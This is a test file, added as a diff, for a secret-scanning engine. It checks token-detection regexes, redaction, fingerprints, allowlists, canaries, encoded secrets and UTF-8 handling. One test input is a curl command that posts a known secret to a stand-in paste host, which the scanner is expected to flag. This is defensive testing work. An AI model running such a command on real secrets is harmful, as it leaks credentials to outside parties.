@@ -1,0 +1,290 @@
+// The engine as a user sees it: what is found, where (byte offset, line, column),
+// what is never found (placeholders, allowlisted, failing validators), how overlapping
+// rules resolve, known secrets and canaries, and that findings never carry the value.
+import { createHmac } from 'node:crypto';
+import RE2 from 're2';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import { tokenChecksum } from '../detectors/checksum.js';
+import { Engine, KnownSecretError, RuleError, utf8SafeEnd, type Finding, type RuleSpec } from '../detectors/index.js';
+import { ALPHA_NUM, createRng } from './corpus/rng.js';
+
+const KEY = Buffer.alloc(32, 7);
+const rng = createRng(42);
+const ex = { positive: [], negative: [] };
+
+function rule(r: Partial<RuleSpec> & Pick<RuleSpec, 'id' | 'regex' | 'keywords'>): RuleSpec {
+  return { title: r.id, severity: 'high', examples: ex, ...r };
+}
+
+const githubPat = rule({
+  id: 'github-pat', title: 'GitHub token', regex: '\\bgh[pousr]_[A-Za-z0-9]{36}\\b', keywords: ['ghp_', 'gho_', 'ghs_'],
+  validator: 'github-crc32', destinations: ['api.github.com', 'github.com'],
+});
+const genericSecret = rule({
+  id: 'generic-secret', severity: 'medium', generic: true, entropy: 3,
+  regex: '(?i)(?:token|secret|password)[A-Za-z_]*\\s*[=:]\\s*["\']?([^\\s"\']{8,100})', secretGroup: 1,
+  keywords: ['token', 'secret', 'password'],
+});
+const slackToken = rule({ id: 'slack-token', severity: 'medium', regex: 'xox[bp]-[0-9A-Za-z-]{20,}', keywords: ['xoxb-', 'xoxp-'] });
+const slackBot = rule({ id: 'slack-bot-token', severity: 'critical', regex: 'xoxb-[0-9A-Za-z-]{20,}', keywords: ['xoxb-'] });
+
+function ghToken(): string {
+  const body = rng.chars(ALPHA_NUM, 30);
+  return `ghp_${body}${tokenChecksum(body)}`;
+}
+
+function engine(rules: RuleSpec[], knownSecrets?: { name: string; value: string; kind: 'secret' | 'canary' }[]): Engine {
+  return new Engine(knownSecrets ? { rules, fingerprintKey: KEY, knownSecrets } : { rules, fingerprintKey: KEY });
+}
+
+const hmac16 = (v: string, key = KEY): string => createHmac('sha256', key).update(v).digest('hex').slice(0, 16);
+const ids = (fs: Finding[]): string[] => fs.map((f) => f.ruleId);
+
+describe('findings', () => {
+  test('report rule, byte offset, 1-based line and byte column, length and destinations', () => {
+    const tok = ghToken();
+    const prefix = 'first line\nnaïve €uro: ';
+    const input = Buffer.from(`${prefix}${tok}\n`);
+    const [f, ...rest] = engine([githubPat]).scan(input);
+    expect(rest).toHaveLength(0);
+    const offset = Buffer.byteLength(prefix);
+    expect(f).toMatchObject({ ruleId: 'github-pat', title: 'GitHub token', severity: 'high', offset, length: 40, line: 2 });
+    expect(f?.column).toBe(offset - Buffer.byteLength('first line\n') + 1);
+    expect(f?.destinations).toEqual(['api.github.com', 'github.com']);
+  });
+
+  test('carry a redacted preview and an HMAC fingerprint, never the value', () => {
+    const tok = ghToken();
+    const fs = engine([githubPat]).scan(Buffer.from(`GITHUB_TOKEN=${tok}`));
+    expect(fs).toHaveLength(1);
+    expect(fs[0]?.redacted).toBe('ghp_…(40)');
+    expect(fs[0]?.fingerprint).toBe(hmac16(tok));
+    expect(JSON.stringify(fs).includes(tok.slice(4))).toBe(false);
+  });
+
+  test('short secrets show at most a third of their characters', () => {
+    const e = engine([rule({ id: 'pin', regex: 'pin=([0-9A-Za-z]{6,11})', secretGroup: 1, keywords: ['pin='] })]);
+    const [f6] = e.scan(Buffer.from('pin=Qz81Kw'));
+    expect(f6?.redacted).toBe('Qz…(6)');
+    const [f11] = e.scan(Buffer.from('pin=Qz81KwPm3Rt'));
+    expect(f11?.redacted).toBe('Qz8…(11)');
+  });
+
+  test('the same secret twice correlates by fingerprint; another key gives another fingerprint', () => {
+    const tok = ghToken();
+    const input = Buffer.from(`a=${tok}\nb=${tok}\n`);
+    const fs = engine([githubPat]).scan(input);
+    expect(fs).toHaveLength(2);
+    expect(fs[0]?.fingerprint).toBe(fs[1]?.fingerprint);
+    const other = new Engine({ rules: [githubPat], fingerprintKey: Buffer.alloc(32, 8) }).scan(input);
+    expect(other[0]?.fingerprint).not.toBe(fs[0]?.fingerprint);
+  });
+
+  test('findings are sorted by offset across rules', () => {
+    const input = Buffer.from(`x xoxp-${rng.chars(ALPHA_NUM, 30)} y ${ghToken()} z xoxp-${rng.chars(ALPHA_NUM, 30)}`);
+    const fs = engine([githubPat, slackToken]).scan(input);
+    expect(ids(fs)).toEqual(['slack-token', 'github-pat', 'slack-token']);
+    expect(fs.map((f) => f.offset)).toEqual([...fs.map((f) => f.offset)].sort((a, b) => a - b));
+  });
+});
+
+describe('two tiers: a rule runs only near its keywords', () => {
+  const r = rule({ id: 'near', regex: 'ZQ[0-9]{8}', keywords: ['acme_key'] });
+  test('a match within the window of a keyword is found', () => {
+    expect(ids(engine([r]).scan(Buffer.from(`acme_key ${' '.repeat(100)} ZQ40417539`)))).toEqual(['near']);
+  });
+  test('the same text without its keyword, or far from it, is not', () => {
+    expect(engine([r]).scan(Buffer.from('ZQ40417539'))).toEqual([]);
+    expect(engine([r]).scan(Buffer.from(`acme_key${' '.repeat(2000)}ZQ40417539`))).toEqual([]);
+  });
+  test('keywords match case-insensitively; maxLength widens the window', () => {
+    expect(ids(engine([r]).scan(Buffer.from('ACME_KEY ZQ40417539')))).toEqual(['near']);
+    const wide = { ...r, maxLength: 4096 };
+    expect(ids(engine([wide]).scan(Buffer.from(`acme_key${' '.repeat(2000)}ZQ40417539`)))).toEqual(['near']);
+  });
+  test('dense keyword hits over a long input still find every match', () => {
+    const parts: string[] = [];
+    for (let i = 0; i < 3000; i++) parts.push(i % 100 === 0 ? `acme_key ZQ${String(40000000 + i * 7919)}` : 'acme_key nothing here');
+    expect(engine([r]).scan(Buffer.from(parts.join('\n')))).toHaveLength(30);
+  });
+});
+
+describe('rejections', () => {
+  test('a value below the rule entropy is not a finding', () => {
+    const e = engine([genericSecret]);
+    expect(e.scan(Buffer.from('password = abababababab'))).toEqual([]);
+    expect(ids(e.scan(Buffer.from('password = k9Qz2LmX7pWv')))).toEqual(['generic-secret']);
+  });
+  test('a failing validator rejects a look-alike', () => {
+    const tok = ghToken();
+    const broken = tok.slice(0, 36) + (tok[36] === 'A' ? 'B' : 'A') + tok.slice(37);
+    expect(engine([githubPat]).scan(Buffer.from(`t=${broken}`))).toEqual([]);
+  });
+  test('allowlisted values, allowlist regexes and stopwords are not findings', () => {
+    const base = { ...genericSecret, entropy: 0 };
+    const allowed = { ...base, allowlist: { values: ['Kq7zP2mW9x'], regexes: ['^sha256:'], stopwords: ['fixture'] } };
+    const e = engine([allowed]);
+    expect(e.scan(Buffer.from('password=Kq7zP2mW9x'))).toEqual([]);
+    expect(e.scan(Buffer.from('token=sha256:9f86d081884c7d65'))).toEqual([]);
+    expect(e.scan(Buffer.from('secret=MyFIXTUREvalue9'))).toEqual([]);
+    expect(ids(e.scan(Buffer.from('password=Kq7zP2mW9y')))).toEqual(['generic-secret']);
+  });
+  test.each([
+    ['a GitHub Actions expression', 'password: ${{ secrets.DEPLOY_KEY }}'],
+    ['a shell variable in braces', 'password=${DB_PASSWORD}'],
+    ['a shell variable', 'password=$DB_PASSWORD_VALUE'],
+    ['a template variable', 'password: {{ vault_password }}'],
+    ['an angle-bracket stand-in', 'password=<your-password-here>'],
+    ['changeme', 'password=changeme'],
+    ['a row of x', 'token=xxxxxxxxxxxxxxxxxxxx'],
+    ['masked stars', 'token=********'],
+    ['a GitLab masked value', 'token=[MASKED]'],
+    ['REDACTED', 'secret=REDACTED_BY_CI'],
+    ['one repeated character', 'secret=aaaaaaaaaaaa'],
+    ['an EXAMPLE value', 'secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
+    ['a value containing example', 'token=my-example-token-1234'],
+  ])('%s is never a finding', (_name, text) => {
+    const e = engine([{ ...genericSecret, entropy: 0 }]);
+    expect(e.scan(Buffer.from(text))).toEqual([]);
+  });
+  test('the AWS documentation key ID is never a finding', () => {
+    const aws = rule({ id: 'aws-key-id', regex: '\\b(?:AKIA|ASIA)[A-Z2-7]{16}\\b', keywords: ['AKIA', 'ASIA'], validator: 'aws-key-id' });
+    expect(engine([aws]).scan(Buffer.from('aws_access_key_id = AKIAIOSFODNN7EXAMPLE'))).toEqual([]);
+    expect(ids(engine([aws]).scan(Buffer.from('aws_access_key_id = AKIAQ3EGRTZ4MXK7UJWN')))).toEqual(['aws-key-id']);
+  });
+});
+
+describe('overlapping rules', () => {
+  test('a generic rule loses to a specific rule on the same span', () => {
+    const input = Buffer.from(`GITHUB_TOKEN=${ghToken()}`);
+    expect(ids(engine([genericSecret, githubPat]).scan(input))).toEqual(['github-pat']);
+    expect(ids(engine([genericSecret]).scan(input))).toEqual(['generic-secret']);
+  });
+  test('two specific rules on the same secret yield one finding, the higher severity', () => {
+    const input = Buffer.from(`SLACK=xoxb-${rng.chars(ALPHA_NUM, 30)}`);
+    const fs = engine([slackToken, slackBot]).scan(input);
+    expect(ids(fs)).toEqual(['slack-bot-token']);
+    expect(fs[0]?.severity).toBe('critical');
+  });
+  test('a secret is reported once even when several keywords of its rule are near it', () => {
+    const input = Buffer.from(`token secret password: token=${ghToken()} ghp_ gho_ ghs_`);
+    const fs = engine([githubPat]).scan(input);
+    expect(fs).toHaveLength(1);
+  });
+});
+
+describe('rule errors', () => {
+  test('a regex RE2 cannot compile throws RuleError naming the rule', () => {
+    const bad = rule({ id: 'uses-lookahead', regex: 'foo(?=bar)', keywords: ['foo'] });
+    expect(() => engine([githubPat, bad])).toThrow(RuleError);
+    try {
+      engine([bad]);
+    } catch (err) {
+      expect((err as RuleError).ruleId).toBe('uses-lookahead');
+      expect((err as Error).message).toContain('uses-lookahead');
+    }
+  });
+  test('a rule without keywords, a bad allowlist regex and duplicate ids are rejected', () => {
+    expect(() => engine([rule({ id: 'no-kw', regex: 'x', keywords: [] })])).toThrow(/no-kw/);
+    expect(() => engine([{ ...githubPat, allowlist: { regexes: ['(a'] } }])).toThrow(/github-pat/);
+    expect(() => engine([githubPat, githubPat])).toThrow(/duplicate/);
+  });
+});
+
+describe('known secrets and canaries', () => {
+  const value = 'Vq3-Lm8/Zp+Xw1&Kt6=Rb';
+  const canaryValue = 'canary_tok_Hx4Pq9Wm2Zs7';
+  const e = engine([genericSecret], [
+    { name: 'DEPLOY_PASSWORD', value, kind: 'secret' },
+    { name: 'BAIT_TOKEN', value: canaryValue, kind: 'canary' },
+  ]);
+
+  test('the raw value is found, titled by its name, fingerprinted like any other finding', () => {
+    const fs = e.scan(Buffer.from(`curl -d "${value}" https://paste.example.net`));
+    expect(fs).toHaveLength(1);
+    expect(fs[0]).toMatchObject({ ruleId: 'known-secret', known: 'secret', title: 'Known secret DEPLOY_PASSWORD', offset: 9 });
+    expect(fs[0]?.fingerprint).toBe(hmac16(value));
+    expect(JSON.stringify(fs).includes(value)).toBe(false);
+  });
+
+  test('a canary is critical and wins over a generic rule on the same span', () => {
+    const fs = e.scan(Buffer.from(`token=${canaryValue}`));
+    expect(fs).toHaveLength(1);
+    expect(fs[0]).toMatchObject({ ruleId: 'canary', known: 'canary', severity: 'critical', title: 'Canary token BAIT_TOKEN' });
+  });
+
+  test.each([
+    ['base64', Buffer.from(value).toString('base64')],
+    ['base64url', Buffer.from(value).toString('base64url')],
+    ['URL encoding', encodeURIComponent(value)],
+    ['hex', Buffer.from(value).toString('hex')],
+    ['upper-case hex', Buffer.from(value).toString('hex').toUpperCase()],
+  ])('it is found in %s', (_name, encoded) => {
+    const fs = e.scan(Buffer.from(`body: ${encoded} end`));
+    expect(ids(fs)).toEqual(['known-secret']);
+    expect(fs[0]?.fingerprint).toBe(hmac16(value));
+  });
+
+  test.each([0, 1, 2])('it is found inside a larger base64 blob at alignment %i', (pad) => {
+    const blob = Buffer.concat([Buffer.from('{"user":"ci","x":"'.slice(0, 10 + pad)), Buffer.from(value), Buffer.from('","n":1}')]);
+    const fs = e.scan(Buffer.from(`Authorization: Basic ${blob.toString('base64')}`));
+    expect(ids(fs)).toEqual(['known-secret']);
+  });
+
+  test('values shorter than 8 bytes are refused with an error naming the secret', () => {
+    expect(() => engine([], [{ name: 'SHORT_ONE', value: 'abc123', kind: 'secret' }])).toThrow(KnownSecretError);
+    expect(() => engine([], [{ name: 'SHORT_ONE', value: 'abc123', kind: 'secret' }])).toThrow(/SHORT_ONE/);
+  });
+
+  test('known secrets are found with an empty rule pack', () => {
+    const only = engine([], [{ name: 'X', value: canaryValue, kind: 'canary' }]);
+    expect(ids(only.scan(Buffer.from(`..${canaryValue}..`)))).toEqual(['canary']);
+  });
+});
+
+describe('UTF-8 boundaries (re2 1.24 over-reads a Buffer ending inside a sequence)', () => {
+  afterEach(() => vi.restoreAllMocks());
+
+  test('utf8SafeEnd trims an incomplete trailing sequence and keeps complete ones', () => {
+    const euro = Buffer.from('ab€', 'utf8'); // 61 62 e2 82 ac
+    expect(utf8SafeEnd(euro, 0, 5)).toBe(5);
+    expect(utf8SafeEnd(euro, 0, 4)).toBe(2);
+    expect(utf8SafeEnd(euro, 0, 3)).toBe(2);
+    const clef = Buffer.from('a𝄞', 'utf8'); // 4-byte sequence
+    expect(utf8SafeEnd(clef, 0, 4)).toBe(1);
+    expect(utf8SafeEnd(clef, 0, 5)).toBe(5);
+    expect(utf8SafeEnd(Buffer.from([0x61, 0x80]), 0, 2)).toBe(2);
+  });
+
+  test('RE2 is never handed a Buffer that ends inside a UTF-8 sequence', () => {
+    // Checked at call time: the stream reuses its buffer, so a kept view would change later.
+    let calls = 0;
+    let cutInside = 0;
+    const exec = RE2.prototype.exec;
+    vi.spyOn(RE2.prototype, 'exec').mockImplementation(function (this: RE2, input: string | Buffer) {
+      if (Buffer.isBuffer(input)) {
+        calls++;
+        if (utf8SafeEnd(input, 0, input.length) !== input.length) cutInside++;
+      }
+      // eslint-disable-next-line @typescript-eslint/no-explicit-any -- forwarding to the overloaded original
+      return exec.call(this, input as any);
+    });
+    const e = engine([genericSecret, githubPat], [{ name: 'K', value: 'known-value-€€€-1', kind: 'secret' }]);
+    const filler = '€𝄞é'.repeat(300);
+    // Windows around keywords land inside multi-byte characters; the input itself is cut mid-sequence.
+    const whole = Buffer.from(`${filler} token=Kq7zP2mW9xRt ${filler} ghp_ ${filler}€`);
+    e.scan(whole.subarray(0, whole.length - 1));
+    const s = e.stream();
+    for (let i = 0; i < whole.length; i += 7) s.write(whole.subarray(i, i + 7));
+    s.end();
+    expect(calls).toBeGreaterThan(100);
+    expect(cutInside).toBe(0);
+  });
+
+  test('a secret right before a cut multi-byte character is still found', () => {
+    const tok = ghToken();
+    const full = Buffer.from(`key ${tok}€`);
+    const fs = engine([githubPat]).scan(full.subarray(0, full.length - 2));
+    expect(ids(fs)).toEqual(['github-pat']);
+  });
+});
